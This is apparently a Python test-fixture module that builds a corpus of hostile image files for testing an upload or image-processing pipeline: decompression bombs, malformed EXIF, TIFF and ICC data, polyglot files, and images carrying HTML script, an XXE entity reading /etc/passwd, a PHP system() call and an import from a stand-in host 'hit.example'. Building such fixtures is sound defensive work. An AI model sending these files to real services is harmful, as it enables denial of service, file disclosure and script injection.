"""Pictures that are bombs, that lie about what they are, or that are something else besides."""

from __future__ import annotations

import struct
import zlib
from io import BytesIO

from PIL import Image as Pillow
from PIL import ImageCms

SCRIPT = b"<script>parent.hit(1)</script>"
MARK = b"hit.example"  # stands in what rides along; nothing of it may be kept


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width=8, height=8, *, depth=8, colour=2, rows=None, more=b"", interlace=0):
    """A PNG whose header may say anything; ``more`` are chunks between header and pixels."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    data = zlib.compress(rows if rows is not None else (b"\0" + b"\x80" * 3 * 8) * 8, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + more + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _saved(kind, size=(16, 16), mode="RGB", **options):
    out = BytesIO()
    Pillow.new(mode, size, 90 if mode == "L" else None).save(out, kind, **options)
    return out.getvalue()


def _moving(kind, frames, size=(16, 16), **options):
    out = BytesIO()
    pictures = [Pillow.new("RGB", size, (n % 256, n // 256, 0)) for n in range(frames)]
    pictures[0].save(out, kind, save_all=True, append_images=pictures[1:], **options)
    return out.getvalue()


def gif(width, height, frames=1, tail=b""):
    """A GIF of frames that hold next to no data, of a screen as large as it says."""
    data = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = (
        b"\x21\xf9\x04\0\0\0\0\0\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\0"
    )
    return data + frame * frames + tail + b";"


def _segment(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg(*segments, tail=b"", **options):
    data = _saved("JPEG", **options)
    return data[:2] + b"".join(segments) + data[2:] + tail


def _jpeg_of_size(width, height):
    data = bytearray(_saved("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _exif(*entries, after=b"", count=None):
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    tiff = (
        b"II*\0\x08\0\0\0"
        + struct.pack("<H", len(entries) if count is None else count)
        + body
        + b"\0\0\0\0"
        + after
    )
    return _segment(0xE1, b"Exif\0\0" + tiff)


def _xmp(xml):
    return _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xml[:65_000])


def _tiff(width=8, height=8, offset=8, strips=1, at=0):
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    entries += [(273, 4, strips, at), (278, 4, 1, height), (279, 4, strips, 64)]
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return (
        b"II*\0" + struct.pack("<I", offset) + struct.pack("<H", len(entries)) + body + b"\0" * 4 + b"\0" * 64
    )


def _bomb_of_text(megabytes, kind=b"zTXt"):
    packed = zlib.compress(b"A" * (megabytes << 20), 9)
    if kind == b"iTXt":
        return _chunk(kind, b"XML:com.adobe.xmp\0\x01\0\0\0" + packed)
    return _chunk(kind, b"Comment\0\0" + packed)


_PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
_DEEP = b"<a>" * 20_000
_RDF = b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>%s</rdf:Description></rdf:RDF>'
_LAUGHS = b"<!DOCTYPE a [<!ENTITY a 'ha'>" + b"".join(
    b'<!ENTITY b%d "%s">' % (n, b"&a;" * 9 if not n else b"&b%d;" % (n - 1) * 9) for n in range(9)
)


def bombs():
    """{name: bytes} of what is small and asks for much. Most are refused by the size they state."""
    rows = b"\0" * (50_001 * 200)
    return {
        "png that states 2 thousand million pixels": png(46_000, 46_000),
        "png of the largest numbers": png(2**31 - 1, 2**31 - 1),
        "png of no pixels": png(0, 0),
        "png of numbers below zero": png(2**32 - 1, 1),
        "png of one row without end": png(2**31 - 1, 1),
        "png that unpacks to more than it states": png(rows=rows),
        "png interlaced and large": png(40_000, 40_000, interlace=1),
        "png that states 61 million pixels": png(7_900, 7_800, depth=1, colour=0, rows=b"\0" * (989 * 7_800)),
        "png with 80 MB of packed words": png(more=_bomb_of_text(80)),
        "png with 70 MB of packed XMP": png(more=_bomb_of_text(70, b"iTXt")),
        "png with 3,000 chunks of words": png(more=_chunk(b"tEXt", b"Comment\0" + b"x" * 900) * 3_000),
        "png with a profile that is a bomb": png(more=_chunk(b"iCCP", b"p\0\0" + zlib.compress(b"\0" * (60 << 20), 9))),
        "gif of 65,535 by 65,535": gif(65_535, 65_535),
        "gif of 5,000 frames of 4,000 by 4,000": gif(4_000, 4_000, 5_000),
        "gif of 20,000 small frames": gif(2, 2, 20_000),
        "gif of 900 frames within the pixels allowed": gif(250, 250, 900),
        "webp of 1,100 frames": _moving("WEBP", 1_100, (4, 4), duration=10),
        "apng of 1,100 frames": _moving("PNG", 1_100, (4, 4)),
        "apng that states a million frames": png(more=_chunk(b"acTL", struct.pack(">II", 1_000_000, 0))),
        "jpeg of 65,500 by 65,500": _jpeg_of_size(65_500, 65_500),
        "jpeg of no height": _jpeg_of_size(16, 0),
        "webp header of 16,383 by 16,383": b"RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0" + b"\xfe\x3f\0" * 2 + b"ANIM" * 3,
        "exif of 65,535 entries": jpeg(_exif((0x010E, 2, 20, 8), count=65_535)),
        "exif whose text has 4 thousand million signs": jpeg(_exif((0x010E, 2, 2**32 - 1, 8))),
        "exif that is its own sub-directory": jpeg(_exif((0x8769, 4, 1, 8), (0x8825, 4, 1, 8))),
        "exif with offsets outside": jpeg(_exif((0x010E, 2, 5_000, 2**31), (0x013B, 5, 9_999, 0xFFFFFFF0))),
        "exif with a thumbnail that is a bomb": jpeg(_exif((0x0201, 4, 1, 30), (0x0202, 4, 1, 2**31), after=png(2**20, 2**20))),
        "iptc without end": jpeg(_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + b"\xff" * 4 + b"\x1c\x02\x78\xff\xff")),
        "photoshop blocks of no length": jpeg(_segment(0xED, b"Photoshop 3.0\x00" + b"8BIM\x04\x04\0\0\0\0\0\0" * 4_000)),
        "xmp that laughs": jpeg(_xmp(_LAUGHS + b"]>" + _RDF % b"&b8;")),
        "xmp that laughs in UTF-16": jpeg(_xmp((_LAUGHS.decode() + "]><a>&b8;</a>").encode("utf-16"))),
        "xmp that reads a file": jpeg(_xmp(b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + _RDF % b"&a;")),
        "xmp 20,000 deep": jpeg(_xmp(_DEEP)),
        "xmp 20,000 deep and well-formed, in a png": png(
            more=_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + _RDF % (_DEEP + b"</a>" * 20_000))
        ),
        "xmp of a million attributes": png(
            more=_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<a " + b" ".join(b"b%d='c'" % n for n in range(200_000)) + b"/>")
        ),
        "profile that is broken": jpeg(_segment(0xE2, b"ICC_PROFILE\0\x01\x01" + _PROFILE[:100] + b"\xff" * 500)),
        "profile in 255 parts that are not there": jpeg(_segment(0xE2, b"ICC_PROFILE\0\x01\xff" + _PROFILE)),
        "profile of another kind": jpeg(_segment(0xE2, b"ICC_PROFILE\0\x01\x01" + _PROFILE.replace(b"RGB ", b"GRAY"))),
        "profile that counts 4 thousand million tags": jpeg(
            _segment(0xE2, b"ICC_PROFILE\0\x01\x01" + _PROFILE[:128] + b"\xff" * 4 + _PROFILE[132:])
        ),
        "jpeg of 20,000 restart marks": jpeg(tail=b"") .replace(b"\xff\xda", b"\xff\xd0" * 20_000 + b"\xff\xda"),
        "jpeg with 16,000 empty segments": jpeg(_segment(0xFE, b"") * 16_000),
    }  # fmt: skip


def liars():
    """{name: bytes} of what is something else, cut off or damaged."""
    whole = {kind: _saved(kind) for kind in ("JPEG", "PNG", "WEBP", "GIF", "AVIF")}
    found = {
        "svg with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit(1)">'
        + SCRIPT
        + b"</svg>",
        "svg after a declaration": b'<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"/>',
        "a page": b"<!doctype html>" + SCRIPT,
        "a page that begins as a gif": b"GIF89a/*<html>" + SCRIPT + b"*/=1;",
        "a pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj",
        "a program": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
        "a zip": b"PK\x03\x04" + b"\0" * 200,
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run",
        "tiff": _tiff(),
        "tiff whose directory is itself": _tiff(offset=0),
        "tiff with a directory outside": _tiff(offset=2**32 - 2),
        "tiff of 4 thousand million strips": _tiff(strips=2**32 - 1),
        "tiff of a terapixel": _tiff(2**20, 2**20),
        "bmp": _saved("BMP"),
        "ico": _saved("ICO"),
        "icns": b"icns\0\0\0\x10ic10\0\0\0\x08",
        "psd": b"8BPS\0\x01" + b"\0" * 6 + b"\0\x03" + struct.pack(">II", 30_000, 30_000) + b"\0\x08\0\x03",
        "fli": struct.pack("<IHHHH", 1_000, 0xAF11, 9_999, 60_000, 60_000) + b"\0" * 200,
        "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 100,
        "ppm of a terapixel": b"P6 1000000 1000000 255 ",
        "xbm that is C": b"#define a_width 9999\n#define a_height 9999\nstatic char a[] = {",
        "nothing but a line end": b"\n",
        "one byte": b"\xff",
        "zeros": b"\0" * 100_000,
        "png signature alone": b"\x89PNG\r\n\x1a\n",
        "png with a wrong sum": png()[:40] + b"\xff" + png()[41:],
        "png whose chunk never ends": b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 2**31 - 1)
        + b"IHDR"
        + b"\0" * 13,
        "png without pixels": b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)),
        "png of an unknown colour": png(colour=7),
        "png of 16 bits cut short": png(depth=16, rows=b"\0"),
        "png whose palette is missing": png(colour=3, rows=(b"\0" + b"\xff" * 8) * 8),
    }
    for kind, data in whole.items():
        found[f"{kind} cut in the head"] = data[:14]
        found[f"{kind} cut in the middle"] = data[: len(data) // 2]
        found[f"{kind} cut at the end"] = data[:-3]
        for seed in range(6):
            changed = bytearray(data)
            for n in range(6):
                changed[12 + (seed * 7919 + n * 104_729) % (len(data) - 12)] ^= 1 << (seed + n) % 8
            found[f"{kind} with bits turned, {seed}"] = bytes(changed)
    return found


def riders():
    """{name: bytes} of pictures that are whole and bring something along, which must not be kept."""
    payload = SCRIPT.replace(b"parent", b"//" + MARK)
    return {
        "jpeg with a page in its comment": jpeg(_segment(0xFE, b"--><html>" + payload)),
        "jpeg with a page after its end": jpeg(tail=b"<html>" + payload),
        "jpeg that is a script in latin-1": jpeg(_segment(0xFE, b"*/=1;import('//" + MARK + b"')/*")),
        "jpeg with a zip after its end": jpeg(tail=b"PK\x03\x04" + MARK * 30 + b"PK\x05\x06" + b"\0" * 18),
        "jpeg with php in its EXIF": jpeg(
            _exif((0x010E, 2, 60, 26), after=b"<?php system('" + MARK + b"')?>\0" * 3)
        ),
        "png with a page in its words": png(more=_chunk(b"tEXt", b"Comment\0<html>" + payload)),
        "png with a page in its own chunk": png(more=_chunk(b"htMl", b"<html>" + payload)),
        "png with a page after its end": png() + b"<html>" + payload,
        "gif with a script after its end": _saved("GIF") + b"=1;import('//" + MARK + b"')",
        "gif with a page in its comment": gif(8, 8, 2, b"\x21\xfe" + bytes([len(payload)]) + payload + b"\0"),
        "webp with a page after its end": _saved("WEBP") + b"<html>" + payload,
        "avif with a page after its end": _saved("AVIF") + b"<html>" + payload,
    }


def corpus():
    return bombs() | liars() | riders()
